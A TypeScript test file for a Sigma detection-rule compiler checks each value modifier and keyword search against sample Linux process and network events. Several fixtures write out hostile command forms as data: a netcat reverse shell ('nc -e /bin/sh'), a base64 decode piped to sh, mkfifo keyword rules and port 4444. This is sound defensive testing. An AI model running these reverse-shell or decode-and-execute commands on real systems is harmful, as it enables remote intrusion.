// Each modifier and value form, with expectations taken from the Sigma specification
// (SigmaHQ/sigma-specification @ ba9251a: sigma-rules-specification.md, sigma-appendix-modifiers.md v2.1.0).
import { Code } from '@omega/errors';
import { compileSigmaRule, eventFromSigmaFields, parseSigmaRule, SigmaRuleError } from './index';
import { base64OffsetVariants, windashVariants } from './value-modifiers';

const ID = '5d5b7a7e-6f2e-4a39-9d41-0f3d2a1c9b10';

function ruleWith(
  selection: string,
  category = 'process_creation',
  condition = 'selection',
): string {
  return [
    'title: test',
    `id: ${ID}`,
    'level: high',
    'logsource:',
    `    category: ${category}`,
    '    product: linux',
    'detection:',
    '    selection:',
    ...selection.split('\n').map((line) => `        ${line}`),
    `    condition: ${condition}`,
  ].join('\n');
}

function matcher(selection: string, category = 'process_creation') {
  const rule = compileSigmaRule(parseSigmaRule(ruleWith(selection, category)));
  return (fields: Record<string, string | number | boolean>) =>
    rule.matches(eventFromSigmaFields(category, fields));
}

function rejection(selection: string, category = 'process_creation'): SigmaRuleError {
  try {
    compileSigmaRule(parseSigmaRule(ruleWith(selection, category)));
  } catch (err) {
    if (err instanceof SigmaRuleError) return err;
    throw err;
  }
  throw new Error('expected a rejection');
}

describe('plain values', () => {
  it('match case-insensitively by default ("All values are treated as case-insensitive strings")', () => {
    const m = matcher("Image: '/usr/bin/Curl'");
    expect(m({ Image: '/USR/BIN/curl' })).toBe(true);
    expect(m({ Image: '/usr/bin/curl2' })).toBe(false);
  });

  it('treat * as any run and ? as one mandatory character ("String Wildcard")', () => {
    const m = matcher("Image: '/usr/bin/prog?.*'");
    expect(m({ Image: '/usr/bin/progA.exe' })).toBe(true);
    expect(m({ Image: '/usr/bin/prog.exe' })).toBe(false);
  });

  it('escape wildcards with a backslash and keep a plain backslash otherwise ("Escape Character")', () => {
    expect(matcher("CommandLine: 'a\\*b'")({ CommandLine: 'a*b' })).toBe(true);
    expect(matcher("CommandLine: 'a\\*b'")({ CommandLine: 'axxb' })).toBe(false);
    expect(matcher("CommandLine: 'C:\\Windows'")({ CommandLine: 'C:\\Windows' })).toBe(true);
    // `\\*`: a backslash followed by a wildcard.
    expect(matcher("CommandLine: 'dir\\\\*'")({ CommandLine: 'dir\\anything' })).toBe(true);
    // `\\\*`: a backslash and a plain star.
    expect(matcher("CommandLine: 'dir\\\\\\*'")({ CommandLine: 'dir\\*' })).toBe(true);
    expect(matcher("CommandLine: 'dir\\\\\\*'")({ CommandLine: 'dir\\x' })).toBe(false);
  });

  it('OR the values of a list, AND the fields of a map', () => {
    const m = matcher("Image|endswith: ['/curl', '/wget']\nCommandLine|contains: 'http'");
    expect(m({ Image: '/usr/bin/wget', CommandLine: 'wget http://x' })).toBe(true);
    expect(m({ Image: '/usr/bin/wget', CommandLine: 'wget ftp://x' })).toBe(false);
    expect(m({ Image: '/usr/bin/nc', CommandLine: 'nc http' })).toBe(false);
  });

  it('match null against an absent field and empty string against an empty one ("Special Field Values")', () => {
    expect(matcher('User: null')({ Image: '/x' })).toBe(true);
    expect(matcher('User: null')({ User: 'root' })).toBe(false);
    expect(matcher("User: ''")({ Image: '/x' })).toBe(true);
  });

  it('compare numbers by their decimal text', () => {
    const m = matcher('DestinationPort: [4444, 8531]', 'network_connection');
    expect(m({ DestinationPort: 4444 })).toBe(true);
    expect(m({ DestinationPort: 4445 })).toBe(false);
  });
});

describe('modifiers (sigma-appendix-modifiers.md)', () => {
  it('contains, startswith, endswith put wildcards around, after, before the value', () => {
    expect(
      matcher("CommandLine|contains: 'base64 -d'")({ CommandLine: 'echo x | BASE64 -D | sh' }),
    ).toBe(true);
    expect(matcher("CommandLine|startswith: 'sh -c'")({ CommandLine: 'sh -c id' })).toBe(true);
    expect(matcher("CommandLine|startswith: 'sh -c'")({ CommandLine: 'bash -c id' })).toBe(false);
    expect(matcher("Image|endswith: '/nc'")({ Image: '/bin/nc' })).toBe(true);
    expect(matcher("Image|endswith: '/nc'")({ Image: '/bin/ncat' })).toBe(false);
  });

  it('all ANDs the values of a list', () => {
    const m = matcher("CommandLine|contains|all: [' -e ', '/bin/sh']");
    expect(m({ CommandLine: 'nc -e /bin/sh 1.2.3.4' })).toBe(true);
    expect(m({ CommandLine: 'nc -e /bin/bash 1.2.3.4' })).toBe(false);
  });

  it('re is case-sensitive unless i; m and s set multi-line and dot-all', () => {
    expect(matcher("CommandLine|re: '\\s-O\\s'")({ CommandLine: 'wget -O x' })).toBe(true);
    expect(matcher("CommandLine|re: '\\s-O\\s'")({ CommandLine: 'wget -o x' })).toBe(false);
    expect(matcher("CommandLine|re|i: '\\s-O\\s'")({ CommandLine: 'wget -o x' })).toBe(true);
    expect(matcher("CommandLine|re|m: '^b$'")({ CommandLine: 'a\nb' })).toBe(true);
    expect(matcher("CommandLine|re: '^b$'")({ CommandLine: 'a\nb' })).toBe(false);
    expect(matcher("CommandLine|re|s: 'a.b'")({ CommandLine: 'a\nb' })).toBe(true);
    expect(matcher("CommandLine|re: 'a.b'")({ CommandLine: 'a\nb' })).toBe(false);
  });

  it('cidr matches IPv4 and IPv6 networks ("Supports both IPv4 and IPv6 notations")', () => {
    const m = matcher(
      "DestinationIp|cidr: ['10.0.0.0/8', 'fe80::/10', '::1/128']",
      'network_connection',
    );
    expect(m({ DestinationIp: '10.1.2.3' })).toBe(true);
    expect(m({ DestinationIp: '11.1.2.3' })).toBe(false);
    expect(m({ DestinationIp: 'fe80::1ff:fe23:4567:890a' })).toBe(true);
    expect(m({ DestinationIp: 'fec0::1' })).toBe(false);
    expect(m({ DestinationIp: '::1' })).toBe(true);
    expect(m({ DestinationIp: 'not-an-ip' })).toBe(false);
  });

  it('base64 encodes the value; base64offset yields the three shifted encodings', () => {
    expect(
      matcher("CommandLine|base64|contains: 'id;'")({ CommandLine: 'echo aWQ7 | base64 -d' }),
    ).toBe(true);
    // Worked by hand with pySigma's algorithm (offsets 0/2/3, ends none/-3/-2): " /bin/bash" → IC9iaW4vYmFzaA==.
    expect(base64OffsetVariants('/bin/bash')).toEqual([
      'L2Jpbi9iYXNo',
      '9iaW4vYmFza',
      'vYmluL2Jhc2',
    ]);
    const m = matcher("CommandLine|base64offset|contains: '/bin/bash'");
    expect(
      m({ CommandLine: `echo ${Buffer.from('xx/bin/bash -i').toString('base64')} | base64 -d` }),
    ).toBe(true);
    expect(m({ CommandLine: `echo ${Buffer.from('xx/bin/sh -i').toString('base64')}` })).toBe(
      false,
    );
  });

  it('windash permutes -, /, en dash, em dash and horizontal bar at flag starts', () => {
    expect(windashVariants('-f')).toEqual(['-f', '/f', '\u2013f', '\u2014f', '\u2015f']);
    expect(windashVariants('a-b')).toEqual(['a-b']);
    const m = matcher("CommandLine|windash|contains: ' -enc '");
    expect(m({ CommandLine: 'x /enc y' })).toBe(true);
    expect(m({ CommandLine: 'x \u2014enc y' })).toBe(true);
  });

  it('exists checks presence ("only verifies the presence of a field")', () => {
    expect(matcher('User|exists: true')({ User: 'root' })).toBe(true);
    expect(matcher('User|exists: true')({ Image: '/x' })).toBe(false);
    expect(matcher('User|exists: false')({ Image: '/x' })).toBe(true);
  });

  it('lt, lte, gt, gte compare numbers', () => {
    const port = (clause: string, value: number) =>
      matcher(clause, 'network_connection')({ DestinationPort: value });
    expect(port('DestinationPort|lt: 1024', 1023)).toBe(true);
    expect(port('DestinationPort|lt: 1024', 1024)).toBe(false);
    expect(port('DestinationPort|lte: 1024', 1024)).toBe(true);
    expect(port('DestinationPort|gt: 1024', 1025)).toBe(true);
    expect(port('DestinationPort|gte: 1024', 1023)).toBe(false);
  });

  it('fieldref compares two fields of the event', () => {
    const m = matcher('Image|fieldref: ParentImage');
    expect(m({ Image: '/bin/sh', ParentImage: '/BIN/SH' })).toBe(true);
    expect(m({ Image: '/bin/sh', ParentImage: '/bin/bash' })).toBe(false);
  });

  it('cased makes matching case-sensitive', () => {
    const m = matcher("CommandLine|cased|contains: 'AAAA'");
    expect(m({ CommandLine: 'xAAAAx' })).toBe(true);
    expect(m({ CommandLine: 'xaaaax' })).toBe(false);
  });

  it('rejects unknown modifiers and names unsupported ones', () => {
    expect(rejection("CommandLine|contians: 'x'").code).toBe(Code.InvalidArgument);
    expect(rejection("CommandLine|contians: 'x'").reason).toContain("unknown modifier 'contians'");
    const utf16 = rejection("CommandLine|utf16le|base64: 'x'");
    expect(utf16.code).toBe(Code.Unimplemented);
    expect(utf16.reason).toContain("modifier 'utf16le'");
    expect(rejection("CommandLine|expand: '%x%'").code).toBe(Code.Unimplemented);
    expect(rejection("CommandLine|re: '(unclosed'").reason).toContain('invalid regular expression');
    expect(rejection("DestinationIp|cidr: '10.0.0.0/33'", 'network_connection').reason).toContain(
      'not an IPv4 or IPv6 CIDR',
    );
  });

  it('runs re on a linear-time engine: nested quantifiers answer on long text, backreferences and lookaround are refused at load', () => {
    // `(a+)+b` and `(a|aa)*c` backtrack exponentially in a backtracking engine on a's without the
    // final letter; RE2 answers in one pass.
    const nested = matcher("CommandLine|re: '^(a+)+b$'");
    expect(nested({ CommandLine: 'a'.repeat(50_000) })).toBe(false);
    expect(nested({ CommandLine: `${'a'.repeat(50_000)}b` })).toBe(true);
    const alternation = matcher("CommandLine|re: '^(a|aa)*c$'");
    expect(alternation({ CommandLine: 'a'.repeat(50_000) })).toBe(false);
    expect(alternation({ CommandLine: 'aaac' })).toBe(true);
    const backreference = rejection("CommandLine|re: '(a)\\1'");
    expect(backreference.reason).toContain("invalid regular expression '(a)\\1'");
    expect(backreference.reason).toContain('linear in the text');
    expect(backreference.ruleId).toBe(ID);
    expect(rejection("CommandLine|re: 'curl(?= -o)'").reason).toContain('lookaround');
  });

  it('rejects fields Omega does not carry, naming the field', () => {
    const error = rejection('LogonId: 0');
    expect(error.code).toBe(Code.Unimplemented);
    expect(error.reason).toMatch(/^field LogonId: Omega process_creation events do not carry it/);
    expect(error.ruleId).toBe(ID);
    expect(error.line).toBe(9);
  });
});

describe('keyword searches', () => {
  it('search every text field of the event for any keyword', () => {
    const rule = compileSigmaRule(
      parseSigmaRule(
        [
          'title: kw',
          `id: ${ID}`,
          'logsource: { category: process_creation, product: linux }',
          'detection:',
          '    keywords:',
          "        - 'nc -e'",
          "        - 'mkfifo'",
          '    condition: keywords',
        ].join('\n'),
      ),
    );
    expect(
      rule.matches(
        eventFromSigmaFields('process_creation', { CommandLine: 'sh -c "MKFIFO /tmp/f"' }),
      ),
    ).toBe(true);
    expect(
      rule.matches(
        eventFromSigmaFields('process_creation', { ParentCommandLine: 'nc -e /bin/sh' }),
      ),
    ).toBe(true);
    expect(rule.matches(eventFromSigmaFields('process_creation', { CommandLine: 'ls' }))).toBe(
      false,
    );
  });
});
